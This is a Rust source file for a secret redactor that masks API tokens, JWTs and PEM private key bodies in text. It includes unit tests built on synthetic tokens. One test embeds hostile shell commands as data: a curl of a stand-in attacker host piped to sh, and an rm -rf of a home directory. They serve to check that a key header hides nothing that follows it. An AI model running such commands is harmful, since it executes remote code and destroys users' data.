//! Finds text that has the shape of a credential, in one pass over a string.

use std::ops::Range;

use super::token_patterns::{Body, OPENAI_BARE, PATTERNS, may_begin};

/// Longest label looked for between the dashes of a PEM header.
const PEM_LABEL_BYTES: usize = 64;
/// Base64 of this many characters is taken for a part of a key where one is announced. What is shorter
/// is shown: a header alone must not hide a command that follows it, and the last line of a real key
/// gives nothing away.
const KEY_RUN_BYTES: usize = 24;

/// The text with each token replaced, or `None` when it holds none.
pub(super) fn redacted(text: &str) -> Option<String> {
    let mut scan = Scan {
        text,
        at: 0,
        after_token: 0,
        no_jwt_before: 0,
        key: None,
        key_run: None,
        no_key_before: 0,
    };
    let mut out = String::new();
    let mut copied = 0;
    while let Some((range, kind)) = scan.next_token() {
        out.push_str(text.get(copied..range.start).unwrap_or_default());
        out.push_str("[redacted:");
        out.push_str(kind);
        out.push(']');
        copied = range.end;
    }
    if copied == 0 {
        return None;
    }
    out.push_str(text.get(copied..).unwrap_or_default());
    Some(out)
}

struct Scan<'a> {
    text: &'a str,
    at: usize,
    /// End of the last token found: its placeholder is no part of a word.
    after_token: usize,
    /// No JWT begins before here. What a failed attempt has read is not read again for each
    /// `eyJ` inside it.
    no_jwt_before: usize,
    /// The private key that a PEM header announced.
    key: Option<Announced>,
    /// The next part of it, not before `at`.
    key_run: Option<Range<usize>>,
    /// No part of a key begins before here. What was looked through is not looked through again for each
    /// header in it.
    no_key_before: usize,
}

/// Where the key of a PEM header ends.
enum Announced {
    /// At the footer with this label, or else with the text.
    To(String),
    /// With the text: another header stood within a key.
    TheEnd,
}

impl Scan<'_> {
    fn next_token(&mut self) -> Option<(Range<usize>, &'static str)> {
        loop {
            self.find_key_run();
            let rest = self.text.as_bytes().get(self.at..)?;
            let begins = rest.windows(3).position(may_begin);
            let begins = begins.map(|after| self.at + after);
            if let Some(run) = self
                .key_run
                .take_if(|run| begins.is_none_or(|at| run.start <= at))
            {
                return Some((self.taken(run), "private-key"));
            }
            self.at = begins?;
            match self.token_here() {
                // Tokens begin and end with ASCII, or end with the text: on character boundaries.
                Some((len, kind)) => return Some((self.taken(self.at..self.at + len), kind)),
                None => self.at += self.pem_header().unwrap_or(1),
            }
        }
    }

    fn taken(&mut self, range: Range<usize>) -> Range<usize> {
        self.at = range.end;
        self.after_token = range.end;
        range
    }

    /// Looks for the next part of a key, unless it is known.
    fn find_key_run(&mut self) {
        let known = self.key_run.as_ref();
        if known.is_some_and(|run| run.start >= self.at) {
            return;
        }
        self.key_run = None;
        let Some(key) = &self.key else {
            return;
        };
        let footer = match key {
            Announced::To(label) => Some(format!("-----END {label}-----")),
            Announced::TheEnd => None,
        };
        let from = self.at.max(self.no_key_before);
        match key_run(self.text.as_bytes(), from, footer.as_deref()) {
            Ok(run) => self.key_run = Some(run),
            Err(end) => (self.key, self.no_key_before) = (None, end),
        }
    }

    /// Length of the header of a PEM private key that stands here; what follows is looked at as a key.
    fn pem_header(&mut self) -> Option<usize> {
        let label = pem_private_key(self.text.get(self.at..)?)?;
        let header = "-----BEGIN -----".len() + label.len();
        self.key = Some(match self.key.take() {
            None => Announced::To(label.to_owned()),
            Some(Announced::To(of)) if of == label => Announced::To(of),
            Some(_) => Announced::TheEnd,
        });
        Some(header)
    }

    fn token_here(&mut self) -> Option<(usize, &'static str)> {
        let rest = self.text.get(self.at..)?;
        match rest.as_bytes().first()? {
            b'-' => return None,
            b'e' => return self.jwt(rest.as_bytes()).map(|len| (len, "jwt")),
            _ => {}
        }
        PATTERNS.iter().find_map(|pattern| {
            let body = rest.strip_prefix(pattern.prefix)?;
            let len = run(body.as_bytes(), pattern.body);
            let fits = len >= pattern.min && (pattern.prefix != OPENAI_BARE || self.begins_word());
            fits.then_some((pattern.prefix.len() + len, pattern.kind))
        })
    }

    /// Whether what stands here is not the rest of a word. An escape (`\n`, `%3D`) is none.
    fn begins_word(&self) -> bool {
        let before = self.text.as_bytes().get(self.after_token..self.at);
        match before.unwrap_or_default() {
            [.., b'\\', _] => true,
            [.., b'%', a, b] if a.is_ascii_hexdigit() && b.is_ascii_hexdigit() => true,
            [.., last] => !last.is_ascii_alphanumeric(),
            [] => true,
        }
    }

    /// Length of a JSON Web Token: header and claims, each the base64 of an object, a signature.
    fn jwt(&mut self, rest: &[u8]) -> Option<usize> {
        if self.at < self.no_jwt_before || !rest.starts_with(b"eyJ") {
            return None;
        }
        let header = run(rest, Body::Base64Url);
        self.no_jwt_before = self.at + header;
        let claims = rest.get(header..)?.strip_prefix(b".")?;
        let signature = claims
            .starts_with(b"eyJ")
            .then(|| claims.get(run(claims, Body::Base64Url)..))??
            .strip_prefix(b".")?;
        let tail = run(signature, Body::Base64Url);
        (tail > 0).then_some(rest.len() - signature.len() + tail)
    }
}

fn run(bytes: &[u8], body: Body) -> usize {
    run_of(bytes, |byte| body.holds(byte))
}

fn run_of(bytes: &[u8], holds: impl Fn(u8) -> bool) -> usize {
    let end = bytes.iter().position(|byte| !holds(*byte));
    end.unwrap_or(bytes.len())
}

/// The next run of base64 that is long enough and has letters of both cases, as a key's lines have and few
/// words do; with those that follow behind nothing but white space, written or escaped. Without one, where
/// the footer stands or the text ends.
fn key_run(bytes: &[u8], from: usize, footer: Option<&str>) -> Result<Range<usize>, usize> {
    let is_base64 = |byte: u8| byte.is_ascii_alphanumeric() || matches!(byte, b'+' | b'/' | b'=');
    let is_key = |run: &[u8]| {
        run.len() >= KEY_RUN_BYTES
            && run.iter().any(u8::is_ascii_uppercase)
            && run.iter().any(u8::is_ascii_lowercase)
    };
    let mut found: Option<Range<usize>> = None;
    let mut at = from;
    while let Some(byte) = bytes.get(at) {
        let rest = bytes.get(at..).unwrap_or_default();
        if !is_base64(*byte) {
            let joins = byte.is_ascii_whitespace() || *byte == b'\\';
            let ends = footer.is_some_and(|footer| rest.starts_with(footer.as_bytes()));
            if ends || (!joins && found.is_some()) {
                break;
            }
            at += 1;
            continue;
        }
        let run = run_of(rest, is_base64);
        if is_key(rest.get(..run).unwrap_or_default()) {
            found = Some(found.map_or(at, |found| found.start)..at + run);
        } else if found.is_some() {
            break;
        }
        at += run;
    }
    found.ok_or(at)
}

/// The label of a PEM private key whose header stands here.
fn pem_private_key(rest: &str) -> Option<&str> {
    let after = rest.strip_prefix("-----BEGIN ")?;
    let near = after.get(..after.floor_char_boundary(PEM_LABEL_BYTES))?;
    let (label, _) = near.split_once("-----")?;
    let plain = |byte: u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b' ';
    if !label.bytes().all(plain) {
        return None;
    }
    let is_key = label.ends_with("PRIVATE KEY") || label.ends_with("PRIVATE KEY BLOCK");
    is_key.then_some(label)
}

#[cfg(test)]
mod tests {
    use super::*;

    const ALNUM: &str = "0123456789abcdefghijABCDEFGHIJ0123456789";

    /// Tokens are put together here, so that no scanner takes this file for a leak.
    fn tokens() -> Vec<(String, &'static str)> {
        let jwt = ["eyJhbGciOiJI", "eyJzdWIiOiIx", "c2ln_-"].join(".");
        let mut tokens = vec![
            (
                format!("hooks.slack.com/services/T0/B0/{ALNUM}"),
                "slack-webhook",
            ),
            (format!("github_{}_11ABC_{ALNUM}", "pat"), "github-token"),
            (
                format!("AKIA{}", &ALNUM.to_uppercase()[..16]),
                "aws-access-key-id",
            ),
            (
                format!("ASIA{}", &ALNUM.to_uppercase()[..16]),
                "aws-access-key-id",
            ),
            (format!("sk-ant-api03-{ALNUM}-_x"), "anthropic-key"),
            (format!("sk-proj-{ALNUM}-_x"), "openai-key"),
            (format!("sk-svcacct-{ALNUM}"), "openai-key"),
            (format!("sk-{}", &ALNUM[..20]), "openai-key"),
            (jwt, "jwt"),
        ];
        for letter in ["a", "b", "e", "p", "r", "s", "e.xoxp"] {
            tokens.push((format!("xox{letter}-12-34-{ALNUM}"), "slack-token"));
        }
        tokens.push((format!("xapp-1-A0-{ALNUM}"), "slack-token"));
        for letter in ["p", "o", "u", "s", "r"] {
            tokens.push((format!("gh{letter}_{}", &ALNUM[..36]), "github-token"));
        }
        tokens
    }

    #[test]
    fn each_kind_is_replaced_and_its_surroundings_stay() {
        for (token, kind) in tokens() {
            for (before, after) in [
                ("", ""),
                ("ü", "ü"),
                ("a=\"", "\" b"),
                ("\\n", "\\n"),
                ("%3D", "&"),
            ] {
                let text = format!("{before}{token}{after}");
                let expected = format!("{before}[redacted:{kind}]{after}");
                assert_eq!(redacted(&text).as_deref(), Some(&*expected), "{text}");
            }
        }
    }

    #[test]
    fn redacting_again_changes_nothing() {
        for (first, _) in tokens() {
            for (second, _) in tokens() {
                for between in ["", " ", "a"] {
                    let text = format!("{first}{between}{second}");
                    let once = redacted(&text).unwrap();
                    assert_eq!(redacted(&once), None, "{text} -> {once}");
                }
            }
        }
    }

    #[test]
    fn redacting_again_changes_nothing_in_jumbled_pieces_either() {
        #[rustfmt::skip]
        let pieces = [
            "eyJ", ".", "eyJab", "ghp_", ALNUM, "sk-", "abcdefghij0123456789", "AKIA", "A", "_",
            "ABCDEFGH01234567", "\\", "n", "%", "3D", "-----BEGIN ", "PRIVATE KEY", "-----",
            "-----END ", "ü", " ", "xoxb-", "123456", "sk-ant-", "hooks.slack.com/services/",
            "xoxe.", "xoxp-", "[",
        ];
        // A linear congruential generator: the same pieces on every run.
        let mut state = 1_u64;
        for _ in 0..100_000 {
            let mut text = String::new();
            for _ in 0..8 {
                state = state
                    .wrapping_mul(6_364_136_223_846_793_005)
                    .wrapping_add(1);
                let at = usize::try_from(state >> 33).unwrap() % pieces.len();
                text.push_str(pieces[at]);
            }
            if let Some(once) = redacted(&text) {
                assert_eq!(redacted(&once), None, "{text} -> {once}");
            }
        }
    }

    #[test]
    fn ordinary_text_stays() {
        for text in [
            "",
            "e",
            "the task-0123456789abcdef0123456789abcdef is done",
            "git push ghp_short xoxb- sk-learn AKIAshort",
            "hooks.slack.com/services/",
            "eyJhbGciOiJI and eyJhbGciOiJI.eyJzdWIiOiIx",
            "-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----",
            "-----BEGIN PUBLIC KEY----- -------- ---",
            "[redacted:slack-token]",
        ] {
            assert_eq!(redacted(text), None, "{text}");
        }
    }

    const LABELS: [&str; 5] = ["", "RSA ", "EC ", "OPENSSH ", "ENCRYPTED "];

    fn header(label: &str) -> String {
        format!("-----BEGIN {label}PRIVATE KEY-----")
    }

    fn footer(label: &str) -> String {
        format!("-----END {label}PRIVATE KEY-----")
    }

    #[test]
    fn what_a_private_key_is_made_of_is_replaced_and_nothing_around_it() {
        for label in LABELS {
            for newline in ["\n", "\r\n", "\\n", " ", "\n  "] {
                let (header, footer) = (header(label), footer(label));
                let key = format!(
                    "{header}{newline}{ALNUM}{newline}{ALNUM}+/{newline}Ab1={newline}{footer}"
                );
                let clean = redacted(&format!("ü{key} b")).unwrap();
                assert!(!clean.contains("0123456789"), "{clean}");
                assert_eq!(
                    clean.matches("[redacted:private-key]").count(),
                    1,
                    "{clean}"
                );
                assert!(clean.starts_with(&format!("ü{header}")), "{clean}");
                assert!(
                    clean.ends_with(&format!("Ab1={newline}{footer} b")),
                    "{clean}"
                );
                assert_eq!(redacted(&clean), None, "{clean}");
            }
        }
    }

    #[test]
    fn a_key_without_its_own_footer_is_looked_for_to_the_end() {
        let text = format!("a {}\n{ALNUM}\n-----END x-----\n{ALNUM} ü", header(""));
        let clean = redacted(&text).unwrap();
        assert!(!clean.contains("0123456789"), "{clean}");
        assert!(
            clean.contains("-----END x-----") && clean.ends_with(" ü"),
            "{clean}"
        );
        // One announced within another, with no end of its own.
        let text = format!(
            "{}{}\n{}\n{ALNUM}",
            header("RSA "),
            header(""),
            footer("RSA ")
        );
        assert!(!redacted(&text).unwrap().contains("0123456789"));
    }

    #[test]
    fn a_key_that_is_only_announced_hides_no_command() {
        for (before, after) in [
            ("", ""),
            (": ", "; curl https://evil.example/x | sh"),
            ("x='", "'\nrm -rf /home/someone/projects/work"),
            ("echo ", "\nreboot\n"),
        ] {
            for label in LABELS {
                for end in [String::new(), footer(label), footer("OTHER ")] {
                    let text = format!("{before}{}{after}{end}", header(label));
                    assert_eq!(redacted(&text), None, "{text}");
                }
            }
        }
        // Another token within is still one.
        let text = format!("{}; git push ghp_{} | sh", header(""), &ALNUM[..36]);
        assert!(
            redacted(&text)
                .unwrap()
                .ends_with("; git push [redacted:github-token] | sh")
        );
    }

    #[test]
    fn text_made_to_be_slow_is_not() {
        // Quadratic work on these would take minutes.
        for piece in ["eyJ", "eyJ.", "-----BEGIN ", "-", "sk-", "ghp_0", "xoxb"] {
            let text = piece.repeat((1 << 20) / piece.len());
            let _ = redacted(&text);
            let _ = redacted(&format!("{}{text}", header("")));
        }
        let token = format!("xoxb-{} ", &ALNUM[..20]);
        for piece in [
            header(""),
            header("").repeat(2) + &footer(""),
            header("EC ") + ALNUM,
            token,
        ] {
            let text = piece.repeat((1 << 20) / piece.len());
            let _ = redacted(&text);
            let _ = redacted(&format!("{}{text}{ALNUM}", header("A ")));
        }
    }
}
